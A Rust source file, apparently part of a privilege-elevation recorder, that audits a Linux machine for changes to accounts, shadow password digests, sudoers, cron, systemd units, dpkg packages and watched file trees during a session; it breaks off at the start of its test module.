//! The change ledger (Linux): what the elevation changed on the machine, as `change` events at
//! the moment the recorder saw it.
//!
//! At JIT start (when the source is made, before `jit start` returns) the source takes a
//! snapshot of what matters: accounts and groups (`/etc/passwd`, `/etc/group`, and of
//! `/etc/shadow` only a digest of each password field, never the field), the sudo
//! configuration (`/etc/sudoers`, `/etc/sudoers.d/`), cron (`/etc/crontab`, `/etc/cron.d/`,
//! `/var/spool/cron/crontabs/`), systemd units and their enablement links under
//! `/etc/systemd/system/`, and where dpkg's log ends. Every round (each chunk cut, and whenever
//! inotify reports a change) it looks at the stamps (`stat`) of everything the snapshot read,
//! and where one moved (or every [`FULL_READ_EVERY`] in any case) it reads them again and
//! writes what differs, then takes that as the new snapshot ([`Inputs`] says why the stamps are
//! enough): a user added, a member added to a group, a password changed, a sudoers or
//! cron line added or removed, a unit enabled, created or masked, a package installed or
//! removed. Files created, modified, removed or re-permissioned under `/etc`, `/usr/local` and
//! `/root` are reported as inotify sees them (directories watched to a bounded depth and count;
//! past the bound the source says `partial`).
//!
//! Cron lines pass the redactor as text before they are written (a cron line is a command);
//! sudoers lines are kept as they are (they say who may do what, and hold no passwords). Reads are bounded: a file over [`MAX_FILE`] is judged by its digest alone.
//!
//! What it cannot see: a change made and undone between two rounds (2 s apart by default) in the
//! structured areas (a file change is still reported by inotify), files outside the watched
//! trees, and anything the kernel's inotify does not report (writes through a bind mount seen at
//! another path, or to a directory past the watch bound).

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::io::{Read, Seek, SeekFrom};
use std::mem::MaybeUninit;
use std::os::fd::{AsFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use jitrec_format::Sha256Digest;
use jitrec_format::{EventKind, SourceState};

use crate::accounts;
use rustix::fs::inotify;

use crate::events::redact::Redactor;
use crate::events::{EventSink, EventSource, IDLE_WAIT};

/// The largest file of a structured area read whole; a larger one is compared by digest only.
pub const MAX_FILE: u64 = 1 << 20;

/// The most dpkg log read in one round.
const MAX_LOG_READ: u64 = 1 << 20;

/// The most directories watched for file changes.
pub const MAX_WATCHES: usize = 4_096;

/// The most files of one directory (`/etc/cron.d`, `/etc/sudoers.d`, ...) read in a round.
const MAX_DIR_FILES: usize = 256;

/// Settings of the change ledger.
#[derive(Debug, Clone)]
pub struct ChangeConfig {
    /// Where the machine's files are: `/`, or a copy of its tree in tests.
    pub root: PathBuf,
    /// Directories (relative to `root`) whose files are watched, each to a depth (1: the
    /// directory's own entries).
    pub trees: Vec<(PathBuf, usize)>,
    pub redactor: Arc<Redactor>,
}

impl ChangeConfig {
    /// The default trees: `/etc` deep, `/usr/local` to 3 levels, `/root` to 2 (its dot files
    /// and `.ssh/authorized_keys`, not a developer's build trees).
    pub fn default_trees() -> Vec<(PathBuf, usize)> {
        vec![
            ("etc".into(), 8),
            ("usr/local".into(), 3),
            ("root".into(), 2),
        ]
    }
}

/// One change, before it is an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    pub area: &'static str,
    pub action: &'static str,
    pub subject: String,
    pub detail: Option<String>,
}

impl Change {
    fn new(area: &'static str, action: &'static str, subject: impl Into<String>) -> Self {
        Self {
            area,
            action,
            subject: crate::events::truncate_text(&subject.into()),
            detail: None,
        }
    }

    fn with(mut self, detail: impl Into<String>) -> Self {
        self.detail = Some(crate::events::truncate_text(&detail.into()));
        self
    }

    fn event(self) -> EventKind {
        EventKind::Change {
            area: self.area.into(),
            action: self.action.into(),
            subject: if self.subject.is_empty() {
                "?".into()
            } else {
                self.subject
            },
            detail: self.detail.filter(|d| !d.is_empty()),
        }
    }
}

/// A file's text if it is small enough to read, else its digest as text.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Content {
    Missing,
    Text(String),
    Large(String),
}

/// Opens `path` for reading only if it is a regular file, without waiting: a FIFO or a device
/// put where a configuration file belongs must not hang the recorder (the snapshot is taken at
/// JIT start).
fn open_regular(path: &Path) -> Option<std::fs::File> {
    use std::os::unix::fs::OpenOptionsExt;
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(rustix::fs::OFlags::NONBLOCK.bits() as i32)
        .open(path)
        .ok()?;
    f.metadata().ok().filter(|m| m.is_file()).map(|_| f)
}

fn read_content(path: &Path, seen: &mut Inputs) -> Content {
    seen.note(path);
    let Some(mut f) = open_regular(path) else {
        return Content::Missing;
    };
    let mut buf = Vec::new();
    if (&mut f).take(MAX_FILE + 1).read_to_end(&mut buf).is_err() {
        return Content::Missing;
    }
    if buf.len() as u64 > MAX_FILE {
        // Too large to compare by lines: its length and the digest of its first MiB say
        // whether it changed (a change past the first MiB that keeps the length is missed).
        let len = f.metadata().map_or(0, |m| m.len());
        return Content::Large(format!("{len} bytes, {}", Sha256Digest::of(&buf).to_hex()));
    }
    Content::Text(String::from_utf8_lossy(&buf).into_owned())
}

/// The meaningful lines of a configuration file (no comments, no blank lines). sudo reads
/// `#include` and `#includedir` as directives, not comments: they are kept.
fn lines(c: &Content) -> BTreeSet<String> {
    match c {
        Content::Text(t) => t
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && (!l.starts_with('#') || include(l).is_some()))
            .map(str::to_owned)
            .collect(),
        _ => BTreeSet::new(),
    }
}

/// The file or directory a sudoers include directive names (`#include FILE`, `@include FILE`,
/// `#includedir DIR`, `@includedir DIR`), and whether it is a directory.
fn include(line: &str) -> Option<(bool, &str)> {
    let l = line.trim();
    let rest = l.strip_prefix('#').or_else(|| l.strip_prefix('@'))?;
    let (dir, path) = if let Some(p) = rest.strip_prefix("includedir") {
        (true, p)
    } else {
        (false, rest.strip_prefix("include")?)
    };
    // `#include` followed by anything but a blank is a comment (`#includes ...`).
    if !path.starts_with([' ', '\t']) {
        return None;
    }
    let path = path.trim().trim_matches('"');
    (!path.is_empty()).then_some((dir, path))
}

/// Files sudoers includes that are read besides `/etc/sudoers` and `/etc/sudoers.d`.
const MAX_INCLUDES: usize = 32;

#[derive(Debug, Clone, PartialEq, Eq)]
struct Account {
    uid: String,
    gid: String,
    home: String,
    shell: String,
}

/// What a snapshot's reads depended on: every file, link and directory [`Snapshot::take_noting`]
/// looked at, with what `lstat` and `stat` said of it just before. While none of them has
/// changed, reading them again gives the same snapshot, so a round compares these stamps
/// ([`Inputs::unchanged`], some hundred `stat` calls) instead of reading and parsing every file
/// again: that was most of an idle session's ledger cost.
///
/// A stamp is the inode, mode, owner, link count, size and the modification and change times
/// to the nanosecond. A write to a file moves its change time (`ctime`), which no system call
/// sets back (`utimensat` sets only the others), and an entry added to or removed from a
/// directory moves the directory's. Only stepping the system clock back to the old time to the
/// nanosecond could give a changed file its old stamp; the full read every [`FULL_READ_EVERY`]
/// catches even that.
#[derive(Debug, Default)]
pub struct Inputs(Vec<(PathBuf, Stamp)>);

/// What `lstat` (the name itself) and `stat` (where it leads) say of a path; `None` where it
/// is missing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp {
    name: Option<Meta>,
    target: Option<Meta>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Meta {
    dev: u64,
    ino: u64,
    mode: u32,
    nlink: u64,
    uid: u32,
    gid: u32,
    size: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

impl Meta {
    fn of(m: &std::fs::Metadata) -> Meta {
        use std::os::unix::fs::MetadataExt;
        Meta {
            dev: m.dev(),
            ino: m.ino(),
            mode: m.mode(),
            nlink: m.nlink(),
            uid: m.uid(),
            gid: m.gid(),
            size: m.size(),
            mtime: (m.mtime(), m.mtime_nsec()),
            ctime: (m.ctime(), m.ctime_nsec()),
        }
    }
}

impl Stamp {
    fn of(path: &Path) -> Stamp {
        Stamp {
            name: std::fs::symlink_metadata(path).ok().map(|m| Meta::of(&m)),
            target: std::fs::metadata(path).ok().map(|m| Meta::of(&m)),
        }
    }
}

impl Inputs {
    /// Stamps `path`. Called before it is read: a change between the stamp and the read is
    /// then in the snapshot and seen as a change of stamp next round (read again, found equal),
    /// never the other way round (a read of the old content under a new stamp would hide it).
    fn note(&mut self, path: &Path) {
        self.0.push((path.to_owned(), Stamp::of(path)));
    }

    /// Whether every path the snapshot read still has the stamp it had.
    pub fn unchanged(&self) -> bool {
        self.0.iter().all(|(path, stamp)| Stamp::of(path) == *stamp)
    }
}

/// How often a round reads every structured file again even though no stamp changed.
pub const FULL_READ_EVERY: std::time::Duration = std::time::Duration::from_secs(30);

/// What the structured areas held at the last round.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Snapshot {
    users: BTreeMap<String, Account>,
    groups: BTreeMap<String, (String, BTreeSet<String>)>,
    /// Per account, a digest of its shadow password field (never the field).
    passwords: BTreeMap<String, String>,
    /// Per file, its meaningful lines (or a digest).
    sudo: BTreeMap<String, Content>,
    cron: BTreeMap<String, Content>,
    /// Per path under /etc/systemd/system: the link target, or empty for a regular file, with
    /// its digest.
    units: BTreeMap<String, String>,
    /// Where dpkg's log ended.
    dpkg_log_end: u64,
}

/// The text of `c`, if it is text (a file that could not be read as text holds no entries).
fn text_of(c: &Content) -> &str {
    match c {
        Content::Text(t) => t,
        _ => "",
    }
}

/// A file of a configuration directory or an include: its lines, or, for a link (symbolic or
/// hard, which may be any file, `/etc/shadow` too) and for a shadow file, only where it points
/// and a digest of it: what changed is said without copying another file's secrets into the ledger.
fn read_entry(path: &Path, seen: &mut Inputs) -> Content {
    use std::os::unix::fs::MetadataExt;
    // A hard link is another name of a file that may be anything, `/etc/shadow` too.
    let link =
        std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink() || m.nlink() > 1);
    let shadow = path
        .file_name()
        .is_some_and(|n| n == "shadow" || n == "gshadow");
    if !link && !shadow {
        return read_content(path, seen);
    }
    let target = std::fs::read_link(path)
        .map(|t| format!("-> {}, ", t.display()))
        .unwrap_or_default();
    match read_content(path, seen) {
        Content::Missing => Content::Missing,
        Content::Large(d) => Content::Large(format!("{target}{d}")),
        Content::Text(t) => Content::Large(format!(
            "{target}{} bytes, {}",
            t.len(),
            Sha256Digest::of(t.as_bytes()).to_hex()
        )),
    }
}

/// The regular files of `dir` (sorted, bounded), as paths shown from `root`.
fn dir_files(root: &Path, rel: &str, seen: &mut Inputs) -> Vec<(String, PathBuf)> {
    let dir = root.join(rel);
    seen.note(&dir);
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Vec::new();
    };
    let mut out: Vec<(String, PathBuf)> = entries
        .filter_map(Result::ok)
        // A link is read where it points when that is a regular file (cron and sudo follow
        // links); the read itself opens without blocking and refuses anything else.
        .filter(|e| {
            e.file_type().is_ok_and(|t| {
                t.is_file()
                    || (t.is_symlink() && std::fs::metadata(e.path()).is_ok_and(|m| m.is_file()))
            })
        })
        .map(|e| {
            let name = e.file_name().to_string_lossy().into_owned();
            (format!("/{rel}/{name}"), e.path())
        })
        .collect();
    out.sort();
    out.truncate(MAX_DIR_FILES);
    out
}

impl Snapshot {
    /// Reads the structured areas under `root`.
    pub fn take(root: &Path) -> Snapshot {
        Self::take_noting(root).0
    }

    /// Reads the structured areas under `root`, and says what the reads depended on.
    pub fn take_noting(root: &Path) -> (Snapshot, Inputs) {
        let mut seen = Inputs::default();
        let mut s = Snapshot::default();
        // Read as the C library (and the trigger) read them: `crate::accounts`.
        let passwd = read_content(&root.join("etc/passwd"), &mut seen);
        for u in accounts::users(text_of(&passwd)) {
            s.users.insert(
                u.name.to_owned(),
                Account {
                    uid: u.uid.to_string(),
                    gid: u.gid.to_string(),
                    home: u.home.to_owned(),
                    shell: u.shell.to_owned(),
                },
            );
        }
        let group = read_content(&root.join("etc/group"), &mut seen);
        for g in accounts::groups(text_of(&group)) {
            let members = g.members.iter().map(|m| (*m).to_owned()).collect();
            // The first entry of a name, as lookups see it; members of a later one count too.
            match s.groups.entry(g.name.to_owned()) {
                std::collections::btree_map::Entry::Vacant(e) => {
                    e.insert((g.gid.to_string(), members));
                }
                std::collections::btree_map::Entry::Occupied(mut e) => {
                    e.get_mut().1.extend(members)
                }
            }
        }
        let shadow = read_content(&root.join("etc/shadow"), &mut seen);
        for f in accounts::records(text_of(&shadow)) {
            if f.len() >= 2 {
                s.passwords
                    .insert(f[0].to_owned(), Sha256Digest::of(f[1].as_bytes()).to_hex());
            }
        }
        s.sudo.insert(
            "/etc/sudoers".into(),
            read_content(&root.join("etc/sudoers"), &mut seen),
        );
        for (shown, path) in dir_files(root, "etc/sudoers.d", &mut seen) {
            s.sudo.insert(shown, read_entry(&path, &mut seen));
        }
        s.follow_sudo_includes(root, &mut seen);
        s.cron.insert(
            "/etc/crontab".into(),
            read_content(&root.join("etc/crontab"), &mut seen),
        );
        for rel in ["etc/cron.d", "var/spool/cron/crontabs"] {
            for (shown, path) in dir_files(root, rel, &mut seen) {
                s.cron.insert(shown, read_entry(&path, &mut seen));
            }
        }
        s.units = units(root, &mut seen);
        s.dpkg_log_end = std::fs::metadata(root.join("var/log/dpkg.log")).map_or(0, |m| m.len());
        (s, seen)
    }
}

impl Snapshot {
    /// Reads the files the sudoers files read include (`#include`, `#includedir`; relative
    /// paths are relative to `/etc`, paths with sudo's `%` escapes are not followed), and the
    /// files those include, at most [`MAX_INCLUDES`] in all: a grant hidden in an included
    /// file outside `/etc/sudoers.d` is in the ledger like any other.
    fn follow_sudo_includes(&mut self, root: &Path, seen: &mut Inputs) {
        let mut read = 0;
        for _ in 0..3 {
            let wanted: Vec<(bool, String)> = self
                .sudo
                .values()
                .filter_map(|c| match c {
                    Content::Text(t) => Some(t),
                    _ => None,
                })
                .flat_map(|t| t.lines().filter_map(include))
                .filter(|(_, p)| !p.contains('%'))
                .map(|(dir, p)| {
                    let abs = if p.starts_with('/') {
                        p.to_owned()
                    } else {
                        format!("/etc/{p}")
                    };
                    (dir, abs)
                })
                .collect();
            let mut added = false;
            for (dir, abs) in wanted {
                let rel = abs.trim_start_matches('/');
                if rel.split('/').any(|c| c == "..") {
                    continue;
                }
                let files = if dir {
                    dir_files(root, rel, seen)
                } else {
                    vec![(abs.clone(), root.join(rel))]
                };
                for (shown, path) in files {
                    if self.sudo.contains_key(&shown) {
                        continue;
                    }
                    if read >= MAX_INCLUDES {
                        return;
                    }
                    read += 1;
                    self.sudo.insert(shown, read_entry(&path, seen));
                    added = true;
                }
            }
            if !added {
                return;
            }
        }
    }
}

/// The units and enablement links under /etc/systemd/system (two levels: `x.service` and
/// `multi-user.target.wants/x.service`).
fn units(root: &Path, seen: &mut Inputs) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let base = root.join("etc/systemd/system");
    let visit = |dir: &Path,
                 prefix: &str,
                 out: &mut BTreeMap<String, String>,
                 seen: &mut Inputs|
     -> Vec<PathBuf> {
        let mut subdirs = Vec::new();
        seen.note(dir);
        let Ok(entries) = std::fs::read_dir(dir) else {
            return subdirs;
        };
        for e in entries.filter_map(Result::ok).take(4 * MAX_DIR_FILES) {
            let name = e.file_name().to_string_lossy().into_owned();
            let path = e.path();
            let Ok(t) = e.file_type() else { continue };
            let key = format!("{prefix}{name}");
            if t.is_symlink() {
                seen.note(&path);
                let target = std::fs::read_link(&path)
                    .map(|p| p.display().to_string())
                    .unwrap_or_default();
                out.insert(key, format!("-> {target}"));
            } else if t.is_dir() {
                subdirs.push(path);
            } else if t.is_file() {
                let digest = match read_content(&path, seen) {
                    Content::Text(t) => Sha256Digest::of(t.as_bytes()).to_hex(),
                    Content::Large(d) => d,
                    Content::Missing => String::new(),
                };
                out.insert(key, digest);
            }
        }
        subdirs
    };
    for sub in visit(&base, "", &mut out, seen) {
        let prefix = format!("{}/", sub.file_name().unwrap_or_default().to_string_lossy());
        visit(&sub, &prefix, &mut out, seen);
    }
    out
}

/// What changed from `old` to `new` in the structured areas (dpkg's log is read separately).
pub fn diff(old: &Snapshot, new: &Snapshot, redactor: &Redactor) -> Vec<Change> {
    let mut out = Vec::new();
    for (name, a) in &new.users {
        match old.users.get(name) {
            None => out.push(Change::new("accounts", "user_added", name).with(format!(
                "uid {}, group {}, home {}, shell {}",
                a.uid, a.gid, a.home, a.shell
            ))),
            Some(b) if b != a => {
                let mut what = Vec::new();
                for (field, was, now) in [
                    ("uid", &b.uid, &a.uid),
                    ("group", &b.gid, &a.gid),
                    ("home", &b.home, &a.home),
                    ("shell", &b.shell, &a.shell),
                ] {
                    if was != now {
                        what.push(format!("{field} {was} -> {now}"));
                    }
                }
                out.push(Change::new("accounts", "user_changed", name).with(what.join(", ")));
            }
            _ => {}
        }
    }
    for name in old.users.keys().filter(|n| !new.users.contains_key(*n)) {
        out.push(Change::new("accounts", "user_removed", name));
    }
    for (group, (gid, members)) in &new.groups {
        match old.groups.get(group) {
            None => out.push(Change::new("accounts", "group_added", group).with(format!(
                "gid {gid}{}",
                if members.is_empty() {
                    String::new()
                } else {
                    format!(
                        ", members {}",
                        members.iter().cloned().collect::<Vec<_>>().join(",")
                    )
                }
            ))),
            Some((_, was)) => {
                for m in members.difference(was) {
                    out.push(
                        Change::new("accounts", "member_added", m).with(format!("group {group}")),
                    );
                }
                for m in was.difference(members) {
                    out.push(
                        Change::new("accounts", "member_removed", m).with(format!("group {group}")),
                    );
                }
            }
        }
    }
    for group in old.groups.keys().filter(|g| !new.groups.contains_key(*g)) {
        out.push(Change::new("accounts", "group_removed", group));
    }
    for (name, digest) in &new.passwords {
        if old.passwords.get(name).is_some_and(|d| d != digest) {
            out.push(Change::new("accounts", "password_changed", name));
        }
    }
    // Sudoers lines say who may do what and hold no passwords: kept as they are (the
    // redactor would take `NOPASSWD: ALL` for a header's value). Cron lines are commands.
    lines_diff("sudo", &old.sudo, &new.sudo, None, &mut out);
    lines_diff("cron", &old.cron, &new.cron, Some(redactor), &mut out);
    for (path, now) in &new.units {
        let was = old.units.get(path);
        if was == Some(now) {
            continue;
        }
        let (dir, unit) = path.rsplit_once('/').unwrap_or(("", path));
        let wanted_by = dir.rsplit_once('.').map(|(t, _)| t).unwrap_or(dir);
        let c = if now == "-> /dev/null" {
            Change::new("services", "unit_masked", unit)
        } else if !dir.is_empty() && now.starts_with("-> ") {
            Change::new("services", "unit_enabled", unit).with(format!("wanted by {wanted_by}"))
        } else if was.is_none() {
            Change::new(
                "services",
                "unit_created",
                format!("/etc/systemd/system/{path}"),
            )
        } else {
            Change::new(
                "services",
                "unit_changed",
                format!("/etc/systemd/system/{path}"),
            )
        };
        out.push(c);
    }
    for (path, was) in &old.units {
        if new.units.contains_key(path) {
            continue;
        }
        let (dir, unit) = path.rsplit_once('/').unwrap_or(("", path));
        let c = if was == "-> /dev/null" {
            Change::new("services", "unit_unmasked", unit)
        } else if !dir.is_empty() && was.starts_with("-> ") {
            let wanted_by = dir.rsplit_once('.').map(|(t, _)| t).unwrap_or(dir);
            Change::new("services", "unit_disabled", unit).with(format!("wanted by {wanted_by}"))
        } else {
            Change::new(
                "services",
                "unit_removed",
                format!("/etc/systemd/system/{path}"),
            )
        };
        out.push(c);
    }
    out
}

fn lines_diff(
    area: &'static str,
    old: &BTreeMap<String, Content>,
    new: &BTreeMap<String, Content>,
    redactor: Option<&Redactor>,
    out: &mut Vec<Change>,
) {
    let (added, removed) = if area == "cron" {
        ("entry_added", "entry_removed")
    } else {
        ("line_added", "line_removed")
    };
    for (path, now) in new {
        let was = old.get(path).unwrap_or(&Content::Missing);
        if was == now {
            continue;
        }
        match (was, now) {
            (Content::Missing, Content::Missing) => {}
            (_, Content::Large(d)) | (Content::Large(d), _) => {
                out.push(Change::new(area, "file_changed", path).with(d.clone()))
            }
            _ => {
                if matches!(was, Content::Missing) {
                    out.push(Change::new(area, "file_added", path));
                } else if matches!(now, Content::Missing) {
                    out.push(Change::new(area, "file_removed", path));
                }
                let (a, b) = (lines(was), lines(now));
                let shown = |l: &str| redactor.map_or_else(|| l.to_owned(), |r| r.text(l));
                for l in b.difference(&a) {
                    out.push(Change::new(area, added, path).with(shown(l)));
                }
                for l in a.difference(&b) {
                    out.push(Change::new(area, removed, path).with(shown(l)));
                }
            }
        }
    }
    for path in old.keys().filter(|p| !new.contains_key(*p)) {
        if !matches!(old.get(path), Some(Content::Missing) | None) {
            out.push(Change::new(area, "file_removed", path));
        }
    }
}

/// Package changes in dpkg's log lines (`2026-12-02 18:20:01 status installed hello:amd64 2.10-3`).
pub fn dpkg_changes(log: &str) -> Vec<Change> {
    log.lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            match f.as_slice() {
                [_, _, "status", "installed", pkg, version] => Some(
                    Change::new("packages", "installed", *pkg).with(format!("version {version}")),
                ),
                [_, _, "status", "not-installed", pkg, _] => {
                    Some(Change::new("packages", "removed", *pkg))
                }
                [_, _, "status", "config-files", pkg, version] => Some(
                    Change::new("packages", "removed", *pkg)
                        .with(format!("version {version}, configuration kept")),
                ),
                _ => None,
            }
        })
        .collect()
}

/// The inotify watches of the file trees.
struct Trees {
    fd: OwnedFd,
    dirs: HashMap<i32, PathBuf>,
    /// Some directory was left unwatched (the bound, or an error).
    partial: Option<String>,
}

const TREE_FLAGS: inotify::WatchFlags = inotify::WatchFlags::CLOSE_WRITE
    .union(inotify::WatchFlags::CREATE)
    .union(inotify::WatchFlags::DELETE)
    .union(inotify::WatchFlags::MOVED_FROM)
    .union(inotify::WatchFlags::MOVED_TO)
    .union(inotify::WatchFlags::ATTRIB)
    .union(inotify::WatchFlags::DONT_FOLLOW)
    .union(inotify::WatchFlags::ONLYDIR);

impl Trees {
    fn open(root: &Path, trees: &[(PathBuf, usize)]) -> std::io::Result<Trees> {
        let fd = inotify::init(inotify::CreateFlags::CLOEXEC | inotify::CreateFlags::NONBLOCK)?;
        let mut t = Trees {
            fd,
            dirs: HashMap::new(),
            partial: None,
        };
        for (rel, depth) in trees {
            t.watch_tree(&root.join(rel), *depth);
        }
        Ok(t)
    }

    /// Watches `dir` and its subdirectories to `depth` levels (breadth first, within the bound).
    fn watch_tree(&mut self, dir: &Path, depth: usize) {
        let mut queue = std::collections::VecDeque::from([(dir.to_owned(), depth)]);
        while let Some((d, left)) = queue.pop_front() {
            if left == 0 {
                continue;
            }
            if self.dirs.len() >= MAX_WATCHES {
                self.partial = Some(format!(
                    "more than {MAX_WATCHES} directories: {} and others are not watched",
                    d.display()
                ));
                return;
            }
            match inotify::add_watch(&self.fd, &d, TREE_FLAGS) {
                Ok(wd) => {
                    self.dirs.insert(wd, d.clone());
                }
                Err(rustix::io::Errno::NOENT) | Err(rustix::io::Errno::NOTDIR) => continue,
                Err(e) => {
                    self.partial = Some(format!("cannot watch {}: {e}", d.display()));
                    continue;
                }
            }
            if let Ok(entries) = std::fs::read_dir(&d) {
                for e in entries.filter_map(Result::ok) {
                    if e.file_type().is_ok_and(|t| t.is_dir()) {
                        queue.push_back((e.path(), left - 1));
                    }
                }
            }
        }
    }

    /// Reads what inotify has; returns the file changes (one per path and action).
    fn drain(&mut self, root: &Path) -> Vec<Change> {
        let mut buf = [MaybeUninit::<u8>::uninit(); 16 * 1024];
        let mut seen: BTreeSet<(String, &'static str)> = BTreeSet::new();
        let mut out = Vec::new();
        let mut new_dirs = Vec::new();
        let mut reader = inotify::Reader::new(&self.fd, &mut buf);
        // An error is EAGAIN: nothing more now.
        while let Ok(ev) = reader.next() {
            let flags = ev.events();
            if flags.contains(inotify::ReadFlags::QUEUE_OVERFLOW) {
                out.push(
                    Change::new("files", "overflow", "inotify")
                        .with("the kernel's queue overflowed: some file changes were not seen"),
                );
                continue;
            }
            let Some(dir) = self.dirs.get(&ev.wd()) else {
                continue;
            };
            let Some(name) = ev.file_name() else { continue };
            let path = dir.join(name.to_string_lossy().as_ref());
            let is_dir = flags.contains(inotify::ReadFlags::ISDIR);
            let action = if flags.contains(inotify::ReadFlags::CREATE)
                || flags.contains(inotify::ReadFlags::MOVED_TO)
            {
                if is_dir {
                    new_dirs.push(path.clone());
                }
                "created"
            } else if flags.contains(inotify::ReadFlags::DELETE)
                || flags.contains(inotify::ReadFlags::MOVED_FROM)
            {
                "removed"
            } else if flags.contains(inotify::ReadFlags::CLOSE_WRITE) {
                "modified"
            } else if flags.contains(inotify::ReadFlags::ATTRIB) {
                "attributes"
            } else {
                continue;
            };
            let shown = format!("/{}", path.strip_prefix(root).unwrap_or(&path).display());
            if seen.insert((shown.clone(), action)) {
                let mut c = Change::new("files", action, shown);
                if action == "attributes" {
                    c = c.with(mode_owner(&path));
                }
                out.push(c);
            }
        }
        // A directory made during the session is watched too (a new /etc/x.d/ and its files).
        for d in new_dirs {
            self.watch_tree(&d, 2);
        }
        out
    }
}

/// `mode 4755, owner 0:0` of a path (after a chmod or chown), or empty if it is gone.
fn mode_owner(path: &Path) -> String {
    use std::os::unix::fs::MetadataExt;
    std::fs::symlink_metadata(path)
        .map(|m| {
            format!(
                "mode {:o}, owner {}:{}",
                m.mode() & 0o7777,
                m.uid(),
                m.gid()
            )
        })
        .unwrap_or_default()
}

/// The change ledger's source for one session.
pub struct ChangeSource {
    config: ChangeConfig,
}

impl std::fmt::Debug for ChangeSource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ChangeSource")
            .field("root", &self.config.root)
            .finish_non_exhaustive()
    }
}

impl ChangeSource {
    /// The source; the snapshot of the structured areas and the file trees' watches are made
    /// on its own thread as it starts (JIT start), so a file that hangs when read (a hung
    /// network or FUSE mount) holds up the ledger only, never the recording. A file changed in
    /// the first milliseconds, before they exist, can be missed.
    pub fn open(config: ChangeConfig) -> Self {
        Self { config }
    }
}

/// File changes listed one by one in a round (a round is a chunk, about 2 s); more are one
/// change with their count. Well within the event budget, so structured changes always fit.
const MAX_FILE_CHANGES: usize = 1_000;

/// A snapshot slower than this is said in the source's status: the ledger's start was late.
const SLOW_SNAPSHOT: std::time::Duration = std::time::Duration::from_secs(2);

fn status(sink: &mut EventSink, state: SourceState, detail: String) {
    let t = sink.clock().now();
    sink.status(
        t,
        EventKind::EventSource {
            source: "changes".into(),
            state,
            detail,
        },
    );
}

/// The dpkg log appended since `from` (bounded), and where it ends now.
fn read_log_from(path: &Path, from: u64) -> (String, u64) {
    let Some(mut f) = open_regular(path) else {
        return (String::new(), from);
    };
    let len = f.metadata().map_or(from, |m| m.len());
    // A rotated log starts again from the beginning.
    let start = if len < from { 0 } else { from };
    if f.seek(SeekFrom::Start(start)).is_err() {
        return (String::new(), from);
    }
    let mut buf = Vec::new();
    let _ = (&mut f).take(MAX_LOG_READ).read_to_end(&mut buf);
    // Only whole lines; the rest waits for the next round.
    let whole = buf.iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
    buf.truncate(whole);
    (
        String::from_utf8_lossy(&buf).into_owned(),
        start + whole as u64,
    )
}

impl EventSource for ChangeSource {
    fn name(&self) -> &'static str {
        "changes"
    }

    fn run(self: Box<Self>, mut sink: EventSink, stop: Arc<AtomicBool>) {
        let ChangeSource { config } = *self;
        let started = std::time::Instant::now();
        let (mut snapshot, mut inputs) = Snapshot::take_noting(&config.root);
        let mut read_at = std::time::Instant::now();
        let took = started.elapsed();
        if took > SLOW_SNAPSHOT {
            status(
                &mut sink,
                SourceState::Partial,
                format!(
                    "reading the machine's accounts, sudoers, cron, units and dpkg's log at JIT start took {:.1} s: a change made meanwhile can be missed",
                    took.as_secs_f64()
                ),
            );
        }
        let mut trees = match Trees::open(&config.root, &config.trees) {
            Ok(t) => {
                match &t.partial {
                    None => status(
                        &mut sink,
                        SourceState::Complete,
                        format!(
                            "accounts, sudo, cron, systemd units and dpkg's log each round; files under {} by inotify ({} directories)",
                            config
                                .trees
                                .iter()
                                .map(|(p, d)| format!("/{} (depth {d})", p.display()))
                                .collect::<Vec<_>>()
                                .join(", "),
                            t.dirs.len()
                        ),
                    ),
                    Some(why) => status(&mut sink, SourceState::Partial, why.clone()),
                }
                Some(t)
            }
            Err(e) => {
                status(
                    &mut sink,
                    SourceState::Partial,
                    format!(
                        "no inotify ({e}): file changes are not reported; accounts, sudo, cron, units and packages are, each round"
                    ),
                );
                None
            }
        };
        let log = config.root.join("var/log/dpkg.log");
        loop {
            let stopping = stop.load(Ordering::SeqCst);
            let asked = sink.wake().take();
            let now = sink.clock().now();
            let mut files = trees
                .as_mut()
                .map(|t| t.drain(&config.root))
                .unwrap_or_default();
            // The structured changes first, then the files: a flood of file writes (an admin
            // touching thousands of files to exhaust the event budget) must not push an
            // account or sudoers change into a summary. Files beyond a round's share are one
            // change saying how many.
            let mut changes = Vec::new();
            if !inputs.unchanged() || read_at.elapsed() >= FULL_READ_EVERY {
                let (next, next_inputs) = Snapshot::take_noting(&config.root);
                read_at = std::time::Instant::now();
                changes = diff(&snapshot, &next, &config.redactor);
                snapshot = Snapshot {
                    dpkg_log_end: snapshot.dpkg_log_end,
                    ..next
                };
                inputs = next_inputs;
            }
            let (appended, end) = read_log_from(&log, snapshot.dpkg_log_end);
            changes.extend(dpkg_changes(&appended));
            if files.len() > MAX_FILE_CHANGES {
                let more = files.len() - (MAX_FILE_CHANGES - 1);
                files.truncate(MAX_FILE_CHANGES - 1);
                files.push(Change::new("files", "many_changed", "files").with(format!(
                    "{more} more files changed in this round, not listed one by one"
                )));
            }
            changes.extend(files);
            snapshot.dpkg_log_end = end;
            // Stamped when the round that found them began: at or after the moment they
            // happened, within a round.
            for c in changes {
                sink.emit(now, c.event());
            }
            if asked || stopping {
                sink.caught_up(now);
            }
            if stopping {
                return;
            }
            match &trees {
                Some(t) => {
                    sink.wake().wait_with(&[t.fd.as_fd()], IDLE_WAIT);
                }
                None => {
                    sink.wake().wait_with(&[], IDLE_WAIT);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn redactor() -> Redactor {
